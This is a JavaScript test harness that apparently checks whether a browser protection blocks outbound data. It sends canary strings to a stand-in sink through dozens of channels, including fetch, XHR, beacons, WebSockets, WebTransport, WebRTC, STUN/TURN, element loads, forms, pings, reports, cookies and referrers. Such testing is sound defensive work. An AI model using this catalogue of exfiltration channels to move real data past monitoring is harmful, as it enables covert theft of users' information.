// The ways of cells.ts, in whatever place this script runs. Each sends its canary once and nothing else with it.
(() => {
  const SINK = 'https://sink.example';
  const SOCKETS = 'wss://sink.example';
  const encoder = new TextEncoder();
  const inWindow = typeof document !== 'undefined';
  const LEAVES_MS = 1500;
  const settle = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const at = (cell) => `${SINK}/in/${cell}`;
  const part = (text) => encoder.encode(`--${text}--`).subarray(2, 2 + text.length);

  /** The functions of this place, or those of another frame's window. */
  function waysOf(from) {
    const { fetch, Request, XMLHttpRequest, WebSocket, FormData, Blob } = from;
    const post = (cell, body, more = {}) => from.fetch(at(cell), { method: 'POST', body, ...more });
    function xhr(cell, body, { sync = false, header } = {}) {
      return new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.open('POST', at(cell), !sync);
        if (header) request.setRequestHeader('x-canary', header);
        request.onloadend = resolve;
        request.send(body);
        if (sync) resolve();
      });
    }
    function socket(cell, act, { url = '', protocols = undefined, Class = WebSocket } = {}) {
      return new Promise((resolve) => {
        const ws = new Class(`${SOCKETS}/in/${cell}${url}`, protocols);
        ws.binaryType = 'arraybuffer';
        ws.onopen = () => {
          act(ws);
          setTimeout(() => {
            ws.close();
            resolve();
          }, 300);
        };
        ws.onerror = resolve;
      });
    }
    // Opened where its port is: Firefox leads datagrams to no other.
    async function transport(cell, act, { url = '', options = {} } = {}) {
      const session = new from.WebTransport(
        `https://${self.QUIC.host}:${self.QUIC.port}/in/${cell}${url}`,
        options,
      );
      await session.ready;
      await act(session);
      // What is written leaves by itself; a close takes back what on a busy machine had not left yet.
      await settle(LEAVES_MS);
      session.close();
    }
    async function write(stream, canary) {
      const writer = stream.getWriter();
      await writer.write(encoder.encode(canary));
    }
    const form = (entry) => {
      const data = new FormData();
      data.append('field', entry);
      return data;
    };
    const file = (text) => new from.File([text], 'note.txt', { type: 'text/plain' });
    async function gzip(text) {
      const stream = new Blob([`{"note":"${text}"}`]).stream().pipeThrough(new CompressionStream('gzip'));
      return new Response(stream).arrayBuffer();
    }

    return {
      'fetch-url': (cell, canary) => fetch.call(from, `${at(cell)}?id=${canary}`),
      'fetch-request': (cell, canary) => from.fetch(new Request(at(cell), { method: 'POST', body: canary })),
      'fetch-request-init': (cell, canary) =>
        from.fetch(new Request(at(cell), { method: 'PUT', body: 'first' }), { method: 'POST', body: canary }),
      'fetch-string': (cell, canary) => post(cell, JSON.stringify({ id: canary })),
      'fetch-params': (cell, canary) => post(cell, new URLSearchParams({ id: canary })),
      'fetch-form': (cell, canary) => post(cell, form(canary)),
      'fetch-form-file': (cell, canary) => post(cell, form(file(canary))),
      'fetch-blob': (cell, canary) => post(cell, new Blob([canary], { type: 'text/plain' })),
      'fetch-buffer': (cell, canary) => post(cell, encoder.encode(canary).buffer),
      'fetch-view': (cell, canary) => post(cell, part(canary)),
      'fetch-header': (cell, canary) => from.fetch(at(cell), { headers: { 'x-canary': canary } }),
      'fetch-keepalive': (cell, canary) => post(cell, canary, { keepalive: true }),
      'fetch-accept': (cell, canary) => from.fetch(at(cell), { headers: { accept: canary } }),
      'fetch-if-none-match': (cell, canary) => from.fetch(at(cell), { headers: { 'if-none-match': canary } }),
      'fetch-content-type': (cell, canary) =>
        post(cell, 'x', { headers: { 'content-type': `text/plain; x=${canary}` } }),
      'fetch-header-name': (cell, canary) => from.fetch(at(cell), { headers: { [`x-${canary}`]: '1' } }),
      'fetch-method': (cell, canary) => from.fetch(at(cell), { method: canary.toUpperCase() }),
      'refused-url': (cell, canary) =>
        from.fetch(`${at(cell)}?id=${canary}`, { headers: { 'x-canary': '1' } }),
      'refused-header-name': (cell, canary) => from.fetch(at(cell), { headers: { [`x-${canary}`]: '1' } }),
      redirect: (cell) => from.fetch(`${SINK}/redirect/${cell}`),
      'redirect-body': (cell, canary) =>
        from.fetch(`${SINK}/redirect/${cell}?307`, { method: 'POST', body: canary }),
      'beacon-params': (cell, canary) =>
        from.navigator.sendBeacon(at(cell), new URLSearchParams({ id: canary })),
      'beacon-json': (cell, canary) =>
        from.navigator.sendBeacon(at(cell), new Blob([`{"id":"${canary}"}`], { type: 'application/json' })),
      'cache-add': async (cell, canary) => {
        const cache = await from.caches.open('matrix');
        await cache.add(`${at(cell)}?id=${canary}`);
      },
      'fetch-no-cors': (cell, canary) => post(cell, canary, { mode: 'no-cors' }),
      'fetch-gzip': async (cell, canary) =>
        post(cell, await gzip(canary), { headers: { 'content-encoding': 'gzip' } }),
      'fetch-stream': (cell, canary) =>
        post(cell, new Blob([canary]).stream(), {
          duplex: 'half',
          headers: { 'content-type': 'text/plain' },
        }),
      'fetch-later': (cell, canary) =>
        from.fetchLater(at(cell), { method: 'POST', body: canary, activateAfter: 0 }),
      'fetch-later-blob': (cell, canary) =>
        from.fetchLater(at(cell), { method: 'POST', body: new Blob([canary]), activateAfter: 35_000 }),
      'fetch-h3': async (cell, canary) => {
        const speaksIt = async () =>
          (await (await from.fetch(`https://${self.QUIC.host}/over`)).text()) === 'h3';
        // Firefox goes over to it some time after an answer has told it that it can.
        for (let tries = 0; tries < 10 && !(await speaksIt()); tries++) await settle(300);
        await from.fetch(`https://${self.QUIC.host}/in/${cell}`, { method: 'POST', body: canary });
      },
      'xhr-string': (cell, canary) => xhr(cell, canary),
      'xhr-blob': (cell, canary) => xhr(cell, new Blob([canary])),
      'xhr-form': (cell, canary) => xhr(cell, form(canary)),
      'xhr-document': (cell, canary) =>
        xhr(cell, new DOMParser().parseFromString(`<note><id>${canary}</id></note>`, 'application/xml')),
      'xhr-view': (cell, canary) => xhr(cell, part(canary)),
      'xhr-sync': (cell, canary) => xhr(cell, canary, { sync: true }),
      'xhr-header': (cell, canary) => xhr(cell, null, { header: canary }),
      'beacon-string': (cell, canary) => from.navigator.sendBeacon(at(cell), canary),
      'beacon-blob': (cell, canary) => from.navigator.sendBeacon(at(cell), new Blob([canary])),
      'beacon-form': (cell, canary) => from.navigator.sendBeacon(at(cell), form(canary)),
      'ws-url': (cell, canary) => socket(cell, () => {}, { url: `?id=${canary}` }),
      'ws-protocol': (cell, canary) => socket(cell, () => {}, { protocols: ['chat', canary] }),
      'ws-text': (cell, canary) => socket(cell, (ws) => ws.send(`{"id":"${canary}"}`)),
      'ws-buffer': (cell, canary) => socket(cell, (ws) => ws.send(encoder.encode(canary).buffer)),
      'ws-view': (cell, canary) => socket(cell, (ws) => ws.send(part(canary))),
      'ws-blob': (cell, canary) => socket(cell, (ws) => ws.send(new Blob([canary]))),
      'ws-close': (cell, canary) => socket(cell, (ws) => ws.close(4001, canary)),
      'ws-subclass': (cell, canary) =>
        socket(cell, (ws) => ws.send(canary), { Class: class Chat extends WebSocket {} }),
      'ws-borrowed-send': (cell, canary) => socket(cell, (ws) => WebSocket.prototype.send.call(ws, canary)),
      'transport-url': (cell, canary) => transport(cell, () => {}, { url: `?id=${canary}` }),
      'transport-protocol': (cell, canary) => transport(cell, () => {}, { options: { protocols: [canary] } }),
      'transport-stream': (cell, canary) =>
        transport(cell, async (session) => write(await session.createUnidirectionalStream(), canary)),
      'transport-bidirectional': (cell, canary) =>
        transport(cell, async (session) => {
          const { writable } = await session.createBidirectionalStream();
          await write(writable, canary);
        }),
      // On a stream that the other end opened.
      'transport-invited': (cell, canary) =>
        transport(cell, async (session) => {
          const { value } = await session.incomingBidirectionalStreams.getReader().read();
          await write(value.writable, canary);
        }),
      // The same, while another session has such streams too.
      'transport-invited-apart': (cell, canary) =>
        transport(cell, async (session) => {
          const other = new from.WebTransport(`https://${self.QUIC.host}:${self.QUIC.port}/in/none`);
          await other.ready;
          const [reader] = [session, other].map((each) => each.incomingBidirectionalStreams.getReader());
          const { value } = await reader.read();
          await write(value.writable, canary);
          setTimeout(() => other.close(), LEAVES_MS);
        }),
      'transport-datagram': (cell, canary) =>
        transport(cell, (session) => write(session.datagrams.writable, canary)),
      'transport-piped': (cell, canary) =>
        transport(cell, async (session) =>
          new Blob([canary]).stream().pipeTo(await session.createUnidirectionalStream()),
        ),
      // Written to by a worker that it was handed to.
      'transport-lent': async (cell, canary) => {
        let worker;
        await transport(cell, async (session) => {
          const code = `onmessage = ({ data }) => data.getWriter().write(new TextEncoder().encode('${canary}'))`;
          worker = new from.Worker(URL.createObjectURL(new Blob([code])));
          const stream = await session.createUnidirectionalStream();
          worker.postMessage(stream, [stream]);
        });
        worker.terminate();
      },
      'rtc-data': async (cell, canary) => {
        const [a, b] = [new from.RTCPeerConnection(), new from.RTCPeerConnection()];
        a.onicecandidate = ({ candidate }) => candidate && b.addIceCandidate(candidate);
        b.onicecandidate = ({ candidate }) => candidate && a.addIceCandidate(candidate);
        const channel = a.createDataChannel('chat');
        const received = new Promise((resolve) => {
          b.ondatachannel = (event) => {
            event.channel.onmessage = () => resolve(true);
          };
        });
        channel.onopen = () => channel.send(canary);
        await a.setLocalDescription();
        await b.setRemoteDescription(a.localDescription);
        await b.setLocalDescription();
        await a.setRemoteDescription(b.localDescription);
        // The sink is not the other peer: the page says that it arrived, without the canary.
        if (await Promise.race([received, settle(6000)]))
          await fetch(`${SINK}/arrived/${cell}`, { mode: 'no-cors' });
        a.close();
        b.close();
      },
      'transport-refused': (cell, canary) => transport(cell, () => {}, { url: `?id=${canary}` }),
      'transport-close': (cell, canary) =>
        transport(cell, (session) => session.close({ closeCode: 7, reason: canary })),
    };
  }

  const here = {
    'ws-stream': async (cell, canary) => {
      const stream = new WebSocketStream(`${SOCKETS}/in/${cell}`);
      const { writable } = await stream.opened;
      const writer = writable.getWriter();
      await writer.write(canary);
      await settle(200);
      stream.close();
    },
    'ws-stream-abort': async (cell, canary) => {
      const { writable } = await new WebSocketStream(`${SOCKETS}/in/${cell}`).opened;
      await writable.getWriter().abort(new WebSocketError('', { closeCode: 4001, reason: canary }));
    },
    'ws-stream-cancel': async (cell, canary) => {
      const { readable } = await new WebSocketStream(`${SOCKETS}/in/${cell}`).opened;
      await readable.cancel(new WebSocketError('', { closeCode: 4001, reason: canary }));
    },
    eventsource: (cell, canary) =>
      new Promise((resolve) => {
        const source = new EventSource(`${at(cell)}?id=${canary}`);
        source.onopen = source.onerror = () => {
          source.close();
          resolve();
        };
      }),
  };

  const append = (tag, attributes) =>
    new Promise((resolve) => {
      const node = document.createElement(tag);
      Object.assign(node, attributes);
      for (const [name, value] of Object.entries(attributes)) {
        if (typeof value === 'string' && !(name in node)) node.setAttribute(name, value);
      }
      node.onload = node.onerror = node.onloadedmetadata = () => resolve();
      document.body.append(node);
      setTimeout(resolve, 1500);
    });
  const style = async (css) => {
    const node = document.createElement('style');
    node.textContent = css;
    document.head.append(node);
    await settle(600);
  };
  const submit = async (cell, method, inner, send) => {
    const target = document.createElement('iframe');
    target.name = `form-${cell}`;
    document.body.append(target);
    const node = document.createElement('form');
    Object.assign(node, { method, action: at(cell), target: target.name });
    node.innerHTML = inner;
    document.body.append(node);
    send(node);
    await settle(900);
  };

  const gather = async (_cell, server) => {
    const peer = new RTCPeerConnection({ iceServers: [server] });
    peer.createDataChannel('chat');
    const gathered = new Promise((resolve) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
    });
    await peer.setLocalDescription();
    // A server that has been asked tells the page only by its answer: a browser that is busy takes its time.
    await Promise.race([gathered, settle(12_000)]);
    peer.close();
  };

  const elements = {
    stun: (cell) => gather(cell, { urls: `stun:${cell}.example:${self.STUN[cell]}` }),
    turn: (cell) =>
      gather(cell, {
        urls: `turn:${cell}.example:${self.STUN[cell]}?transport=udp`,
        username: 'u',
        credential: 'p',
      }),
    image: (cell, canary) => append('img', { src: `${at(cell)}?id=${canary}` }),
    srcset: (cell, canary) => append('img', { srcset: `${at(cell)}?id=${canary} 1x` }),
    'svg-image': async (cell, canary) => {
      const box = document.createElement('div');
      box.innerHTML = `<svg width="9" height="9"><image href="${at(cell)}?id=${canary}" width="9" height="9"/></svg>`;
      document.body.append(box);
      await settle(600);
    },
    script: (cell, canary) => append('script', { src: `${at(cell)}?id=${canary}` }),
    stylesheet: (cell, canary) => append('link', { rel: 'stylesheet', href: `${at(cell)}?id=${canary}` }),
    'css-url': async (cell, canary) => {
      await style(`.c-${canary} { background: url("${at(cell)}?id=${canary}"); width: 9px; height: 9px }`);
      await append('i', { className: `c-${canary}`, textContent: 'x' });
    },
    'css-import': (cell, canary) => style(`@import url("${at(cell)}?id=${canary}");`),
    font: async (cell, canary) => {
      await style(`@font-face { font-family: f-${canary}; src: url("${at(cell)}?id=${canary}"); }`);
      await append('b', { style: `font-family: f-${canary}`, textContent: 'x' });
    },
    preload: (cell, canary) =>
      append('link', { rel: 'preload', as: 'image', href: `${at(cell)}?id=${canary}` }),
    prefetch: (cell, canary) => append('link', { rel: 'prefetch', href: `${at(cell)}?id=${canary}` }),
    iframe: (cell, canary) => append('iframe', { src: `${at(cell)}?id=${canary}` }),
    object: (cell, canary) => append('object', { type: 'image/png', data: `${at(cell)}?id=${canary}` }),
    video: (cell, canary) => append('video', { src: `${at(cell)}?id=${canary}`, preload: 'auto' }),
    'form-get': (cell, canary) =>
      submit(cell, 'get', `<input name="id" value="${canary}">`, (form) => form.requestSubmit()),
    'form-post': (cell, canary) =>
      submit(cell, 'post', `<input name="id" value="${canary}">`, (form) => form.submit()),
    'a-ping': async (cell, canary) => {
      const target = document.createElement('iframe');
      target.name = `ping-${cell}`;
      document.body.append(target);
      const node = document.createElement('a');
      Object.assign(node, { href: `${SINK}/site/blank.html`, target: target.name });
      Object.assign(node, { ping: `${at(cell)}?id=${canary}`, textContent: 'x' });
      document.body.append(node);
      node.click();
      await settle(400);
    },
    'window-apart': async (cell, canary) => {
      window.open(`${at(cell)}?id=${canary}`, '_blank', 'noopener');
      await settle(2000);
    },
    'link-apart': async (cell, canary) => {
      const node = document.createElement('a');
      Object.assign(node, { href: `${at(cell)}?id=${canary}`, target: '_blank', rel: 'noreferrer' });
      document.body.append(node);
      node.click();
      await settle(2000);
    },
    'form-apart': async (cell, canary) => {
      const node = document.createElement('form');
      Object.assign(node, { method: 'post', action: at(cell), target: '_blank', rel: 'noreferrer' });
      node.innerHTML = `<input name="id" value="${canary}">`;
      document.body.append(node);
      node.submit();
      await settle(2000);
    },
    'window-open': async (cell, canary) => {
      const opened = window.open(`${at(cell)}?id=${canary}`);
      await settle(3000);
      opened?.close();
    },
    'post-message': async (cell, canary) => {
      const node = document.createElement('iframe');
      node.src = `${SINK}/site/listen.html?${cell}`;
      document.body.append(node);
      await new Promise((resolve) => {
        node.onload = resolve;
      });
      node.contentWindow.postMessage({ id: canary }, '*');
      await settle(500);
    },
    'csp-report': async (cell) => {
      await append('iframe', { src: `/site/csp.html?${cell}` });
      await settle(1500);
    },
    'report-to': async (cell) => {
      await append('iframe', { src: `/site/report-to.html?${cell}` });
      await settle(1500);
    },
    'network-error-report': async (cell) => {
      const site = cell.replace('.', '-');
      await fetch(`https://${site}.example/nel/${cell}`, { mode: 'no-cors' });
      await settle(1500);
    },
    revalidated: async (cell, canary) => {
      await fetch(at(cell)).then((response) => response.text());
      await fetch(at(cell), { headers: { 'x-canary': canary } }).then((response) => response.text());
    },
    cached: async (cell, canary) => {
      await fetch(at(cell)).then((response) => response.text());
      await fetch(at(cell), { headers: { 'x-canary': canary } }).then((response) => response.text());
    },
    cookie: async (cell) => {
      await fetch(`${SINK}/cookie/${cell}`, { credentials: 'include' });
      await fetch(at(cell), { credentials: 'include' });
      await fetch(`${SINK}/forget/${cell}`, { credentials: 'include' });
    },
  };

  const ways = {
    ...waysOf(self),
    ...here,
    'dynamic-import': (cell, canary) => import(`${at(cell)}?id=${canary}`),
    ...(inWindow ? elements : {}),
    ...(typeof importScripts === 'function'
      ? { 'import-scripts': (cell, canary) => importScripts(`${at(cell)}?id=${canary}`) }
      : {}),
  };

  /** Goes every way that has a canary in this place, or those named. Returns when all are done or have been given time. */
  self.goAllWays = async (place, own = ways, only = null) => {
    const canaries = self.CANARIES[place] ?? {};
    const done = [];
    for (const [way, canary] of Object.entries(canaries)) {
      if (way === 'referrer' || !own[way] || (only && !only.includes(way))) continue;
      const going = (async () => own[way](`${way}.${place}`, canary))().catch(() => {});
      done.push(Promise.race([going, settle(7000)]));
    }
    await Promise.all(done);
    await Promise.race([self.matrixTools?.windows?.(), settle(30_000)]);
    if (canaries.referrer && (!only || only.includes('referrer'))) {
      const { href } = location;
      history.replaceState(null, '', `?from=${canaries.referrer}`);
      await fetch(at(`referrer.${place}`), { referrerPolicy: 'unsafe-url' }).catch(() => {});
      history.replaceState(null, '', href);
    }
  };
  self.waysOf = waysOf;
  self.matrixWays = ways;
  if (inWindow) self.matrixTools = { SINK, at, settle, gather, append, style, submit };
})();
